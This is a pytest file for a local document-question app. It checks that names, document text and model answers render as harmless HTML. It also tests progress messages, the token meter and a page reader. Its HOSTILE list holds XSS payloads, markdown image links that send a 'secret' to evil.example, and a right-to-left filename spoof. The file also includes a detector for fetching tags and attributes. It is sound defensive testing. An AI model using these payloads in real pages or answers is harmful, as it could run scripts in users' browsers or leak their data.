"""What the page shows, as HTML: right for ordinary values, harmless for hostile ones."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest

from app.assistant import Answer, Meter
from app.library import Entry
from app.problems import Problem
from app.server import plain
from app.sources import Source
from app.ui import documents, engine, markup, reader, screen, transcript
from app.ui.desk import Chat, View
from app.ui.exchange import Exchange, advance, fail
from app.ui.intake import Tray
from ingest.document import Document, Page
from runtime.events import Emission, Progress
from runtime.plan import gib
from runtime.stats import LevelStats, Stats
from tests.app.scripted import Facts, placed_at_home

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '"><iframe src="https://evil.example">',
    "' onmouseover='alert(1)",
    "![leak](https://evil.example/?secret)",
    "![leak][1]\n\n[1]: https://evil.example/?secret",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example/plain",
    "&lt;b&gt; &amp;quot;",
    "${alert(1)} {{value}} `${value}`",
    "a\u202egpj.exe",
    "line\r\nbreak\x1b[31m",
]
STATS = Stats(79_352, 79_310, 42, 1.5, 0.42, 61, 4.0, (LevelStats("target", 10, 60, 34),))
SOURCES = (Source("report.pdf", 12, "xii", 0.6, "the relief valve"),)
ANSWER = Answer("It stops at **40 bar**.", "stop", SOURCES, STATS, "cpu", "starter")


class Tags(HTMLParser):
    """The tags and attributes of a piece of HTML, as a browser finds them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data


def is_harmless(html: str) -> bool:
    """Nothing in it runs, and nothing makes a browser fetch or offer an address."""
    tags = Tags(html)
    fetching = {
        "img",
        "script",
        "svg",
        "iframe",
        "object",
        "embed",
        "link",
        "style",
        "a",
        "video",
        "audio",
        "form",
        "base",
    }
    risky = {"src", "href", "srcset", "action", "formaction", "background", "poster"}
    return not tags.names & fetching and not any(name.startswith("on") or name in risky for name, _ in tags.attributes)


def entry(name: str = "report.pdf", text: str = "The relief valve opens at 40 bar.", **fields: object) -> Entry:
    pages = (Page(11, "xi", "Contents"), Page(12, "xii", text))
    document = Document(name, "pdf", "0" * 64, 20, pages)
    made = Entry("e1", name, "ready", document, (1, 9))
    return replace(made, **fields)  # type: ignore[arg-type]


def state(
    *entries: Entry, exchanges: tuple[Exchange, ...] = (), used: int = 10, is_answering: bool = False
) -> screen.State:
    chat = Chat("c1", exchanges)
    return screen.State(View(chat, (chat,), is_answering), entries, Tray(), Meter(used, 7552, 8192))


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_shown_not_obeyed(words: str) -> None:
    """Names, document text, questions and a model's answer can hold anything; none of it becomes a tag of its own."""
    problem = Problem(words, words)
    source = Source(words, 1, words, 1.0, words)
    answer = replace(ANSWER, text=words, sources=(source,), notes=(words,), model=words)
    done = advance(Exchange(words), answer)
    hostile = entry(words, words, warnings=(words,))
    facts = replace(Facts(), model=words, mode=words, mode_reason=words, notes=(words,), architecture=words)
    pieces = [
        transcript.finished((done, fail(Exchange(words), problem))),
        transcript.running(advance(Exchange(words), Emission(words, ())), 0),
        documents.shelf((hostile, Entry("e2", words, "failed", problem=problem)), Tray((words,), frozenset({"e2"}))),
        documents.chats(View(Chat("c"), (Chat("c", (done,)), Chat("d", (done,))), False)),
        reader.page(hostile, 12, words),
        engine.head(facts),
        screen.welcome(state(hostile), facts),
        screen.draw(state(Entry("e", words)), facts).hint,
        plain.failed(problem),
    ]
    assert [is_harmless(piece.replace('<link rel="stylesheet" href="page.css">', "")) for piece in pieces] == [
        True
    ] * len(pieces)


@pytest.mark.parametrize("words", HOSTILE[:4])
def test_the_check_for_harm_finds_harm(words: str) -> None:
    assert not is_harmless(words)


def test_a_link_in_an_answer_stands_there_as_written() -> None:
    """What is not obeyed is not hidden either: the person sees what the model wrote."""
    shown = Tags(markup.markdown("see [here](https://evil.example/?a) ![](https://evil.example/?b)"))
    assert "[here](https://evil.example/?a) ![](https://evil.example/?b)" in shown.words


def test_the_plan_is_shown_with_its_parts_its_predictions_and_the_choices_beside() -> None:
    placed = placed_at_home()
    words = " ".join(Tags(engine.head(replace(Facts(), placed=placed))).words.split())

    assert "On the GPU, its KV cache in main memory (offload)." in words
    assert f"weights{gib(placed.chosen.bytes.weights)}" in words
    assert f"together{gib(placed.chosen.bytes.total)} of 24.0 GiB free" in words
    assert f"streamed to the cardfull KV cache{gib(placed.chosen.streamed.full_kv)}" in words
    assert words.count("Predicted, not measured: ") == 2  # of this one and of the next worse
    assert "Next better: on the GPU (gpu), for which " in words
    assert "Next worse: on the GPU, weights and KV cache in main memory (offload). Predicted" in words
    assert "Where it runs" not in engine.head(Facts())


def test_direction_overrides_in_a_name_are_written_out() -> None:
    assert markup.name("a\u202egpj.exe") == "<bdi>a\\u202egpj.exe</bdi>"


def test_markdown_of_answers_is_formatted() -> None:
    html = markup.markdown("**a** `b`\n\n- c\n\n| d | e |\n|---|---|\n| 1 | 2 |\n\n```\nx < y\n```")
    assert {"strong", "code", "ul", "table", "pre"} <= Tags(html).names
    assert "x &lt; y" in html


def test_an_exchange_follows_its_events() -> None:
    """Waiting, then prefill, then words, then the answer with its end."""
    waiting = Exchange("Why?")
    prefill = advance(waiting, Progress("prefill", 512, 2048, 900.0, 1.7))
    first = advance(prefill, Emission("It ", (1,)))
    second = advance(first, Emission("stops", (2,)))
    done = advance(second, ANSWER)
    phases = [one.phase for one in (waiting, prefill, first, second, done)]
    assert phases == ["waiting", "prefill", "answering", "answering", "done"]
    assert second.text == "It stops"
    assert done.text == ANSWER.text
    assert advance(second, replace(ANSWER, finish_reason="cancelled")).phase == "stopped"
    assert not done.is_running


def test_prefill_shows_tokens_speed_and_time_left() -> None:
    html = transcript.running(advance(Exchange("Why?"), Progress("prefill", 12_288, 79_310, 1240.0, 54.05)), 0)
    assert "12,288 of 79,310 tokens · 1,240 tokens/s · 54 s left" in Tags(html).words
    assert 'aria-valuenow="15"' in html
    assert 'data-act="stop"' in html


def test_below_an_answer_stand_its_pages_and_what_it_cost() -> None:
    html = transcript.finished((advance(Exchange("Why?"), ANSWER),))
    assert "first token 0.4 s · 15.0 tokens/s · 3.4 accepted per round · 79,310 cached + 42 new tokens" in html
    assert Tags(html).words.count("report.pdf") == 1
    assert "p. xii" in Tags(html).words


def test_what_crossed_the_bus_stands_in_the_particulars() -> None:
    """Where the KV cache is in main memory."""
    moved = replace(STATS, to_device_bytes=61 * 10**9, from_device_bytes=10**6, decode_moved_bytes=61 * 412_340_000)
    html = transcript.finished((advance(Exchange("Why?"), replace(ANSWER, stats=moved)),))
    assert "3.4 accepted per round · 61.0 GB between memory and card (412.3 MB a token) · 79,310 cached" in html


@pytest.mark.parametrize(
    ("document", "label", "shown"),
    [
        ("report.pdf", "12", "p. 12"),
        ("code", "kv/full.py:3-9", "kv/full.py:3-9"),
        ("notes.md", "notes.md:3-9", "line 3-9"),
    ],
)
def test_a_chip_names_page_or_lines(document: str, label: str, shown: str) -> None:
    answer = replace(ANSWER, sources=(Source(document, 1, label, 1.0, ""),))
    assert shown in Tags(transcript.finished((advance(Exchange("?"), answer),))).words


def test_how_an_answer_ended_is_told() -> None:
    stopped = advance(Exchange("?"), replace(ANSWER, finish_reason="cancelled"))
    cut = advance(Exchange("?"), replace(ANSWER, finish_reason="length"))
    assert "You stopped this answer." in transcript.finished((stopped,))
    assert "it reached its limit of 61 tokens" in transcript.finished((cut,))


def test_a_failed_exchange_says_why_and_offers_to_ask_again() -> None:
    html = transcript.finished((Exchange("a"), fail(Exchange("Why?"), Problem("Too long.", "Choose fewer pages."))))
    assert 'role="alert"' in html
    assert "Choose fewer pages." in html
    assert 'data-act="again" data-at="1"' in html


@pytest.mark.parametrize(
    ("exchange", "said"),
    [
        (None, ""),
        (Exchange("?"), "Question sent."),
        (advance(Exchange("?"), Progress("prefill", 30, 100)), "Reading the documents, 25 per cent."),
        (advance(Exchange("?"), Progress("prefill", 49, 100)), "Reading the documents, 25 per cent."),
        (advance(Exchange("?"), Emission("secret", ())), "The answer is being written."),
        (advance(Exchange("?"), ANSWER), "The answer is complete."),
    ],
)
def test_progress_is_announced_in_coarse_steps(exchange: Exchange | None, said: str) -> None:
    """A screen reader hears start, quarters and end, never the streamed text."""
    assert transcript.announcement(exchange) == said


def test_a_document_row_tells_pages_and_tokens() -> None:
    words = Tags(documents.shelf((entry(),), Tray())).words
    assert "20 pages · 10 tokens" in words
    chosen = entry(selected=(11,))
    assert "1 of 20 pages · 1 token" in Tags(documents.shelf((chosen,), Tray())).words


def test_a_locked_document_asks_for_its_password() -> None:
    failed = Entry("e1", "secret.pdf", "failed", problem=Problem("secret.pdf is encrypted.", "Give its password."))
    assert 'type="password"' in documents.shelf((failed,), Tray(locked=frozenset({"e1"})))
    assert 'type="password"' not in documents.shelf((failed,), Tray())


@pytest.mark.parametrize(
    ("pages", "written"), [((1,), "1"), ((1, 2, 3), "1-3"), ((1, 2, 4, 7, 8), "1-2, 4, 7-8"), ((3, 1), "1, 3")]
)
def test_chosen_pages_are_written_as_a_person_writes_them(pages: tuple[int, ...], written: str) -> None:
    assert documents.ranges(pages) == written


def test_the_meter_says_both_numbers_and_turns_over_the_limit() -> None:
    assert "79,310 of 131,072 tokens" in documents.meter(Meter(79_310, 131_072, 131_584))
    over = documents.meter(Meter(131_204, 131_072, 131_584))
    assert 'data-over="true"' in over
    assert "131,204 of 131,072 tokens" in over
    assert "132 tokens too many" in over
    assert "width:100.0%" in over


@pytest.mark.parametrize(
    ("shown", "may_send", "hint"),
    [
        (state(), False, "Add a document"),
        (state(Entry("e", "a.pdf")), False, "Reading"),
        (state(entry(checked=False)), False, "Tick a document"),
        (state(entry(), used=7553), False, "7,553 tokens and the model reads 7,552"),
        (state(entry()), True, "Nothing is sent to the internet"),
        (state(entry(), is_answering=True), False, "another chat"),
    ],
)
def test_send_is_offered_when_a_question_can_be_asked(shown: screen.State, may_send: bool, hint: str) -> None:
    drawn = screen.draw(shown, Facts())
    assert drawn.may_send is may_send
    assert hint in drawn.hint


def test_the_passage_is_marked_where_it_stands() -> None:
    """White space may differ between quote and page; the words may not."""
    wrapped = entry(text="The relief\n valve   opens at 40 bar.")
    assert "<mark>relief\n valve   opens</mark>" in reader.page(wrapped, 12, "relief valve opens")


def test_a_passage_that_is_not_there_is_not_marked() -> None:
    """No mark is better than one on the wrong words."""
    html = reader.page(entry(), 12, "the pump never stops")
    assert "<mark>" not in html
    assert "could not be found" in html


def test_the_reader_turns_to_the_pages_that_hold_text() -> None:
    html = reader.page(entry(), 12)
    assert "Page xii 12 of 20" in " ".join(Tags(html).words.split())
    assert 'data-index="11"' in html
    assert 'aria-label="Next page" disabled' in html


def test_printed_lines_flow_into_paragraphs() -> None:
    """Breaks at the page's edge become spaces; headings, lists and short lines keep theirs; no length changes."""
    text = "1. Heading\nThis line runs to the very edge of page\nand so it goes on here.\n\n- a\n- b"
    flowed = reader.flow(text)
    assert flowed == "1. Heading\nThis line runs to the very edge of page and so it goes on here.\n\n- a\n- b"
    assert len(flowed) == len(text)
    assert reader.flow("") == ""
